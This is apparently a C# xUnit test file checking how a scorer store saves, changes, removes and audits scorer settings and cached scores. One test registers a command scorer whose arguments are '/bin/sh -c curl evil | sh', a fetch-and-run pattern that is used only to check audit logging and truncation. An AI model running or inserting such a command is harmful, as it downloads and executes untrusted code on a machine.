using System.Collections.Immutable;
using Microsoft.EntityFrameworkCore;
using RetryStudio.Domain.Accounts;
using RetryStudio.Domain.Generation;
using RetryStudio.Domain.Scorers;
using RetryStudio.Tests.Builders;
using Shouldly;
using Xunit;

namespace RetryStudio.Tests.Infrastructure.Persistence;

public sealed class ScorerStoreTests : DatabaseTest
{
    internal static ScorerSettings Settings(string name, params string[] checks) => new(name, ScorerType.Http)
    {
        Address = "http://scorer:9100",
        Headers = ImmutableSortedDictionary<string, string>.Empty.Add("X-Key", "secret"),
        Checks = [.. checks.Select(check => new CheckScale(check, 1.2, 0, [AssetKind.Video]))],
    };

    [Fact]
    public async Task AddAsync_Settings_AreReadBackWithTheirScales()
    {
        var id = await AddAsync("Faces", "likeness", "face_confidence");

        var found = (await Scorers.FindAsync(id, Ct)).ShouldNotBeNull();
        (found.Name, found.Address, found.Headers["X-Key"], found.TimeoutSeconds, found.Enabled).ShouldBe(("Faces", "http://scorer:9100", "secret", 60, true));
        found.Checks.ShouldBe([new("face_confidence", 1.2, 0, [AssetKind.Video]), new("likeness", 1.2, 0, [AssetKind.Video])]);
        (await Scorers.NamesAsync(Ct)).ShouldBe(["face_confidence", "likeness"]);
        (await ReadAsync(context => context.AuditEntries.SingleAsync(entry => entry.Action == "scorer.add", Ct))).Detail.ShouldBe("Faces, http://scorer:9100, on, 1 headers, likeness face_confidence");
    }

    [Fact]
    public async Task AddAsync_Program_IsInTheAuditWithItsArguments()
    {
        await Scorers.AddAsync(new("Local", ScorerType.Command) { Program = "/bin/sh", Arguments = ["-c", "curl evil | sh", .. Enumerable.Repeat(new string('x', 400), 12)], Checks = [new("brightness", 0, 1, [AssetKind.Image])] }, "mara", Ct);

        var detail = (await ReadAsync(context => context.AuditEntries.SingleAsync(entry => entry.Action == "scorer.add", Ct))).Detail;
        detail.ShouldStartWith("Local, /bin/sh, on, 0 headers, brightness, arguments: -c curl evil | sh xxx");
        detail.Length.ShouldBeLessThanOrEqualTo(AuditEntry.DetailLimit);
    }

    [Fact]
    public async Task AddAsync_CheckThatHasASource_NamesIt()
    {
        await AddAsync("Faces", "likeness");

        (await Scorers.AddAsync(Settings("Others", "aesthetics", "likeness"), "mara", Ct)).ShouldBe(new ScorerSaving.CheckTaken("likeness", "Faces"));
        (await Scorers.AddAsync(Settings("Faces", "aesthetics"), "mara", Ct)).ShouldBeOfType<ScorerSaving.NameTaken>();
        (await Scorers.NamesAsync(Ct)).ShouldBe(["likeness"]);
    }

    [Fact]
    public async Task AddAsync_SameCheckAtOnce_OneHasIt()
    {
        var added = await Task.WhenAll(Enumerable.Range(0, 4).Select(number => Task.Run(() => Scorers.AddAsync(Settings($"Scorer {number}", "likeness"), "mara", Ct))));

        added.OfType<ScorerSaving.Saved>().ShouldHaveSingleItem();
        added.OfType<ScorerSaving.CheckTaken>().Count().ShouldBe(3);
    }

    [Fact]
    public async Task ChangeAsync_Checks_ComeGoAndTakeAnotherScale()
    {
        var id = await AddAsync("Faces", "likeness", "face_confidence");

        (await Scorers.ChangeAsync(id, 1, settings => settings with { Checks = [new("likeness", 0, 1, [AssetKind.Image]), new("aesthetics", 1, 10, [AssetKind.Image])] }, "mara", Ct)).ShouldBeOfType<ScorerSaving.Saved>();

        (await Scorers.FindAsync(id, Ct))!.Checks.ShouldBe([new("aesthetics", 1, 10, [AssetKind.Image]), new("likeness", 0, 1, [AssetKind.Image])]);
        (await AddAsync("Others", "face_confidence")).ShouldNotBe(Guid.Empty);
    }

    [Fact]
    public async Task ChangeAsync_OlderRevision_IsOutdated()
    {
        var id = await AddAsync("Faces", "likeness");
        await Scorers.ChangeAsync(id, 1, settings => settings with { Enabled = false }, "mara", Ct);

        (await Scorers.ChangeAsync(id, 1, settings => settings with { Enabled = true }, "mara", Ct)).ShouldBeOfType<ScorerSaving.Outdated>();
        (await Scorers.ChangeAsync(Guid.NewGuid(), null, settings => settings, "mara", Ct)).ShouldBeOfType<ScorerSaving.Gone>();

        (await Scorers.FindAsync(id, Ct))!.Enabled.ShouldBeFalse();
    }

    [Fact]
    public async Task RemoveAsync_TakesEverythingAlong()
    {
        var id = await AddAsync("Faces", "likeness");
        await Scores.NoteAsync(id, Call(0.4), Ct);

        (await Scorers.RemoveAsync(id, "mara", Ct)).ShouldBeTrue();

        (await Scorers.AllAsync(Ct)).ShouldBeEmpty();
        (await Scorers.NamesAsync(Ct)).ShouldBeEmpty();
        (await ReadAsync(context => context.KnownScores.CountAsync(Ct))).ShouldBe(0);
        (await Scorers.RemoveAsync(id, "mara", Ct)).ShouldBeFalse();
        await Scores.NoteAsync(id, Call(0.4), Ct);
    }

    [Fact]
    public async Task AllAsync_ShowsHowTheyDid()
    {
        var id = await AddAsync("Faces", "likeness");
        await Scores.NoteAsync(id, Call(0.4), Ct);
        await Scores.NoteAsync(id, Call(0.4) with { Took = TimeSpan.FromSeconds(4) }, Ct);
        await Scores.NoteAsync(id, Failure, Ct);

        var shown = (await Scorers.AllAsync(Ct)).ShouldHaveSingleItem();

        (shown.Calls, shown.Failures, shown.FailuresInRow, shown.MeanSeconds, shown.LastError, shown.Version, shown.HasHeaders).ShouldBe((3, 1, 1, 3, "Nobody there.", "1.3", true));
    }

    [Fact]
    public async Task ServingAsync_OnlyThoseThatAreOnAndWithTheChecksThatAreAsked()
    {
        var id = await AddAsync("Faces", "likeness", "face_confidence");
        var off = await AddAsync("Off", "aesthetics");
        await Scorers.ChangeAsync(off, null, settings => settings with { Enabled = false }, "mara", Ct);

        var serving = await Scores.ServingAsync(["likeness", "aesthetics", "other"], Ct);

        serving.ShouldHaveSingleItem().Id.ShouldBe(id);
        serving[0].Settings.Checks.ShouldHaveSingleItem().Check.ShouldBe("likeness");
        serving[0].Settings.Headers["X-Key"].ShouldBe("secret");
    }

    [Fact]
    public async Task RecallAsync_SameFileAndVersion_KnowsTheScores()
    {
        var id = await AddAsync("Faces", "likeness");
        await Scores.NoteAsync(id, Call(0.4), Ct);
        await Scores.NoteAsync(id, Call(0.5), Ct);

        var known = (await Scores.RecallAsync(id, "file", Ct)).Known.ShouldHaveSingleItem();
        (known.Raw, known.Note, known.At).ShouldBe((0.4, "profile view", 1.5));
        (await Scores.RecallAsync(id, "other", Ct)).Known.ShouldBeEmpty();

        await Scores.NoteAsync(id, Call(0.6, version: "1.4"), Ct);
        (await Scores.RecallAsync(id, "file", Ct)).Known.ShouldHaveSingleItem().Raw.ShouldBe(0.6);
    }

    [Fact]
    public async Task RecallAsync_Failures_AreRememberedUntilItIsSetUpAnew()
    {
        var id = await AddAsync("Faces", "likeness");
        for (var failure = 0; failure < ScorerRecord.FailuresUntilRest; failure++)
        {
            await Scores.NoteAsync(id, Failure, Ct);
        }

        var memory = await Scores.RecallAsync(id, "file", Ct);
        memory.RestsUntil.ShouldNotBeNull().ShouldBeGreaterThan(Clock.GetUtcNow());
        (memory.FailuresInRow, memory.LastError).ShouldBe((3, "Nobody there."));

        await Scorers.ChangeAsync(id, null, settings => settings with { Address = "http://other" }, "mara", Ct);
        (await Scores.RecallAsync(id, "file", Ct)).RestsUntil.ShouldBeNull();
    }

    [Fact]
    public async Task NoteAsync_ErrorOfACheck_IsAskedForAgain()
    {
        var id = await AddAsync("Faces", "likeness");
        await Scores.NoteAsync(id, new(new ScorerReply.Answered("1.3", null, [CheckReply.Missing("likeness", "out of memory")]), TimeSpan.Zero, "file"), Ct);

        (await Scores.RecallAsync(id, "file", Ct)).Known.ShouldBeEmpty();
    }

    [Fact]
    public async Task NoteAsync_SameFileAtOnce_IsKeptOnceAndCountedEveryTime()
    {
        var id = await AddAsync("Faces", "likeness");

        await Task.WhenAll(Enumerable.Range(0, 4).Select(_ => Task.Run(() => Scores.NoteAsync(id, Call(0.4), Ct))));

        (await Scores.RecallAsync(id, "file", Ct)).Known.ShouldHaveSingleItem();
        (await Scorers.AllAsync(Ct)).Single().Calls.ShouldBe(4);
    }

    [Fact]
    public async Task NoteAsync_Old_IsForgotten()
    {
        var id = await AddAsync("Faces", "likeness");
        await Scores.NoteAsync(id, Call(0.4), Ct);
        Clock.Advance(TimeSpan.FromDays(3));
        await Scores.NoteAsync(id, Call(0.4) with { Fingerprint = "another" }, Ct);

        (await Scores.RecallAsync(id, "file", Ct)).Known.ShouldBeEmpty();
        (await Scores.RecallAsync(id, "another", Ct)).Known.ShouldHaveSingleItem();
    }

    [Fact]
    public async Task LatestAsync_GivesTheNewestFileOfItsKind()
    {
        (await Scorers.LatestAsync(AssetKind.Image, Ct)).ShouldBeNull();
        await StartAsync(await ProjectAsync(), kinds: AssetKind.Image);
        await RunAsync((await GpuAsync()).Image, Planning.Passed());

        var latest = (await Scorers.LatestAsync(AssetKind.Image, Ct)).ShouldNotBeNull();

        latest.Path.ShouldEndWith("media.png");
        latest.Sha256.Length.ShouldBe(64);
        (await Scorers.LatestAsync(AssetKind.Video, Ct)).ShouldBeNull();
    }

    private static ScorerCall Failure => new(new ScorerReply.Failed(ScorerFault.Unreachable, "Nobody there."), TimeSpan.FromSeconds(60), "file");

    private static ScorerCall Call(double raw, string version = "1.3") =>
        new(new ScorerReply.Answered(version, "net", [new("likeness", ReplyStatus.Ok, raw, "profile view", 1.5)]), TimeSpan.FromSeconds(2), "file");

    private async Task<Guid> AddAsync(string name, params string[] checks) => (await Scorers.AddAsync(Settings(name, checks), "mara", Ct)).ShouldBeOfType<ScorerSaving.Saved>().Id;
}
